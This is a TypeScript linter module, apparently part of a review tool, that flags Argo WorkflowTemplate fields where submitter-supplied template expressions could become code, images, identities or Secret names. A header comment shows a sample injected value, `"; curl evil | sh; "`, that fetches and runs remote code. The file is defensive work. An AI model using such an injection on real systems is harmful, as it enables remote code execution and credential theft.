import {
  RESTRICTING_TEMPLATE_REFERENCING, TEMPLATE_REFERENCING_ANNOTATION, TEMPLATE_REFERENCING_EXEMPTION, WORKFLOW_EXPRESSION_EXEMPTION,
} from '../rules/exemptions';
import * as field from './field-path';
import { array, DocContext, isObject, Json } from './workflow-model';

/**
 * WorkflowTemplates as code under review: what a submitter chooses must never become code, an
 * image, an identity or a Secret.
 *
 * Argo Workflows replaces every `{{...}}` of a template with its value as plain text, before the
 * pod exists (argo-workflows v3.7 workflow/common/util.go SubstituteParams, util/template
 * Replace): a parameter in a script's `source` or a container's `command`/`args` is spliced into
 * the code the pod runs (a shell then runs `"; curl evil | sh; "` as written), in an `image` it picks
 * what runs, in a `serviceAccountName` or a Secret name it picks the pod's identity and
 * credentials, in a `podSpecPatch` it rewrites the whole pod (privileged, hostPath, any
 * ServiceAccount; CVE-2026-31892 is the same patch from the Workflow's own spec). So those fields
 * hold constants of the synth; parameters reach a script through `env` (a value, never code), as
 * every step of the platform does (in source, command and args, what Argo itself fixes, such as
 * `{{workflow.name}}` or an input artifact's path, may stand). An exception is the annotation WORKFLOW_EXPRESSION_EXEMPTION on
 * the WorkflowTemplate: the exact expressions it accepts, then ": " and the reason.
 *
 * And the controller setting the model relies on: whoever may create a Workflow in a namespace may
 * run any pod there, with any Secret or ServiceAccount of it (argo-workflows docs/security.md, "User
 * Permissions"), unless the controller restricts Workflows to the reviewed templates
 * (`workflowRestrictions.templateReferencing: Strict` or `Secure`, docs/workflow-restrictions.md).
 * A WorkflowTemplate that holds credentials declares that setting (TEMPLATE_REFERENCING_ANNOTATION)
 * or records why it runs without (TEMPLATE_REFERENCING_EXEMPTION with a reason).
 */

const EXPRESSION = /\{\{[^]*?\}\}/g;

/** The expressions the WorkflowTemplate's exemption annotation accepts (before the first ": "). */
export function exemptExpressions(doc: Json): Set<string> {
  const value = doc?.metadata?.annotations?.[WORKFLOW_EXPRESSION_EXEMPTION];
  if (typeof value !== 'string') return new Set();
  const at = value.lastIndexOf('}}: ');
  if (at < 0 || value.slice(at + 4).trim() === '') return new Set();
  return new Set(value.slice(0, at + 2).match(EXPRESSION) ?? []);
}

/** The expressions of a value that the exemption does not accept. */
function unexempted(value: string, exempt: ReadonlySet<string>): string[] {
  return (value.match(EXPRESSION) ?? []).filter((e) => !exempt.has(e));
}

/** Whether `image` holds an expression the WorkflowTemplate does not accept: the digest rule then says nothing more. */
export function imageHasExpression(image: string, exempt: ReadonlySet<string>): boolean {
  return unexempted(image, exempt).length > 0;
}

/** The image as the digest rule reads it: accepted expressions removed (`node:latest{{=''}}` is `node:latest`). */
export function literalImage(image: string): string {
  return image.replace(EXPRESSION, '');
}

type Report = DocContext['report'];

/** Every container of a template, with its path. */
export function templateContainers(t: Json, path: string): Array<[Json, string]> {
  const containers: Array<[Json, string]> = [];
  if (isObject(t.container)) containers.push([t.container, field.child(path, 'container')]);
  if (isObject(t.script)) containers.push([t.script, field.child(path, 'script')]);
  array(t.containerSet?.containers).forEach((c, k) => containers.push([c, field.index(field.child(path, 'containerSet', 'containers'), k)]));
  array(t.initContainers).forEach((c, k) => containers.push([c, field.index(field.child(path, 'initContainers'), k)]));
  array(t.sidecars).forEach((c, k) => containers.push([c, field.index(field.child(path, 'sidecars'), k)]));
  return containers.filter(([c]) => isObject(c));
}

/** The names of Secrets a template or spec refers to, with their paths (env, envFrom, volumes, pull secrets). */
export function secretNames(node: Json, path: string, out: Array<[Json, string]> = []): Array<[Json, string]> {
  if (Array.isArray(node)) {
    node.forEach((v, i) => secretNames(v, field.index(path, i), out));
  } else if (isObject(node)) {
    for (const [k, v] of Object.entries(node)) {
      const at = field.child(path, k);
      // secretKeyRef, envFrom's secretRef, and the artifact repositories' accessKeySecret,
      // passwordSecret, tokenSecret...: each names a Secret in `name`.
      if ((k === 'secretKeyRef' || k === 'secretRef' || /Secret$/.test(k)) && isObject(v)) out.push([v.name, field.child(at, 'name')]);
      else if (k === 'secret' && isObject(v)) out.push([v.secretName ?? v.name, field.child(at, v.secretName !== undefined ? 'secretName' : 'name')]);
      else if (k === 'imagePullSecrets') array(v).forEach((s, i) => out.push([s?.name, field.child(field.index(at, i), 'name')]));
      // Scripts and commands are text, never references.
      if (k !== 'source' && k !== 'command' && k !== 'args') secretNames(v, at, out);
    }
  }
  return out;
}

/**
 * What Argo puts in place of these is fixed by the template or by Argo, never chosen by a submitter
 * as free text: the names of the workflow and the pod, the retry count, an input artifact's path.
 */
const FIXED_BY_ARGO = /^\{\{\s*(workflow\.(name|namespace|uid)|pod\.name|retries|inputs\.artifacts\.[A-Za-z0-9_-]+(\.path)?)\s*\}\}$/;

/** The fields of one template that hold constants only. */
export function lintTemplateExpressions(t: Json, path: string, label: string, exempt: ReadonlySet<string>, report: Report): void {
  const refuse = (value: unknown, at: string, what: string, instead: string, fixedByArgo = false) => {
    if (typeof value !== 'string') return;
    const found = unexempted(value, exempt).filter((e) => !(fixedByArgo && FIXED_BY_ARGO.test(e)));
    if (found.length) {
      report(at, `${label}: ${what} holds the expression ${found.join(' ')}: a submitter's value would ${instead}. Write a constant, or list the expression in the annotation ${WORKFLOW_EXPRESSION_EXEMPTION} ("<expression>: <reason>")`);
    }
  };
  for (const [c, at] of templateContainers(t, path)) {
    const name = typeof c.name === 'string' ? ` container "${c.name}"` : '';
    refuse(c.image, field.child(at, 'image'), `the image of${name || ' the container'}`, 'choose what runs: pin the image (repository:tag@sha256:...)');
    refuse(c.source, field.child(at, 'source'), 'the script\'s source', 'become code the shell runs: pass it as an environment variable (env: [{name: X, value: "{{...}}"}]) and read "$X"', true);
    for (const k of ['command', 'args'] as const) {
      array(c[k]).forEach((v, i) => refuse(v, field.index(field.child(at, k), i), `${k}[${i}] of${name || ' the container'}`,
        'become code or options of the command: pass it as an environment variable and refer to it as $(X) or "$X"', true));
    }
  }
  refuse(t.serviceAccountName, field.child(path, 'serviceAccountName'), 'serviceAccountName', 'choose the pod\'s Kubernetes identity');
  refuse(t.executor?.serviceAccountName, field.child(path, 'executor', 'serviceAccountName'), 'executor.serviceAccountName', 'choose the executor\'s Kubernetes identity');
  refuse(t.podSpecPatch, field.child(path, 'podSpecPatch'), 'podSpecPatch', 'rewrite the pod (privileged, host paths, any ServiceAccount)');
  for (const [name, at] of secretNames(t, path)) refuse(name, at, 'a Secret name', 'choose which credentials the pod gets');
}

/** The spec-wide fields: the workflow's identity, pod patch, volumes and pull secrets. */
export function lintSpecExpressions(spec: Json, exempt: ReadonlySet<string>, report: Report): void {
  const label = 'spec';
  const refuse = (value: unknown, at: string, what: string) => {
    if (typeof value !== 'string') return;
    const found = unexempted(value, exempt);
    if (found.length) {
      report(at, `${label}: ${what} holds the expression ${found.join(' ')}: a submitter's value would choose it. Write a constant, or list the expression in the annotation ${WORKFLOW_EXPRESSION_EXEMPTION} ("<expression>: <reason>")`);
    }
  };
  refuse(spec.serviceAccountName, 'spec.serviceAccountName', 'serviceAccountName');
  refuse(spec.executor?.serviceAccountName, 'spec.executor.serviceAccountName', 'executor.serviceAccountName');
  refuse(spec.podSpecPatch, 'spec.podSpecPatch', 'podSpecPatch');
  const { templates: _templates, ...rest } = spec;
  for (const [name, at] of secretNames(rest, 'spec')) refuse(name, at, 'a Secret name');
}

/**
 * A WorkflowTemplate that holds credentials (a Secret, a ServiceAccount) declares the controller
 * setting that keeps submitters to its templates, or records why it runs without.
 */
export function lintControllerSetting(doc: Json, report: Report): void {
  const annotations = isObject(doc?.metadata?.annotations) ? doc.metadata.annotations : {};
  const declared = annotations[TEMPLATE_REFERENCING_ANNOTATION];
  const reason = annotations[TEMPLATE_REFERENCING_EXEMPTION];
  if ((RESTRICTING_TEMPLATE_REFERENCING as readonly string[]).includes(declared)) return;
  if (typeof reason === 'string' && reason.trim() !== '') return;
  const spec = isObject(doc.spec) ? doc.spec : {};
  const secrets = [...new Set(secretNames(spec, 'spec').map(([name]) => name).filter((n) => typeof n === 'string'))].sort();
  const accounts = [...new Set([spec.serviceAccountName, ...array(spec.templates).map((t) => t?.serviceAccountName)]
    .filter((n) => typeof n === 'string' && n !== ''))].sort();
  if (!secrets.length && !accounts.length) return;
  const held = [...secrets.map((s) => `Secret ${s}`), ...accounts.map((a) => `ServiceAccount ${a}`)].join(', ');
  const wrong = declared === undefined ? '' : ` ("${declared}" is not a setting that restricts: use Secure or Strict)`;
  report(field.child('metadata', 'annotations'), `holds credentials (${held}) but declares no restricting controller setting${wrong}: unless the Argo Workflows controller sets workflowRestrictions.templateReferencing: Secure, whoever may create a Workflow in this namespace may run any pod with them. Set it in the workflow-controller ConfigMap and declare it with the annotation ${TEMPLATE_REFERENCING_ANNOTATION}: Secure (PipelineTemplate's templateReferencing), or record the reason in ${TEMPLATE_REFERENCING_EXEMPTION}`);
}
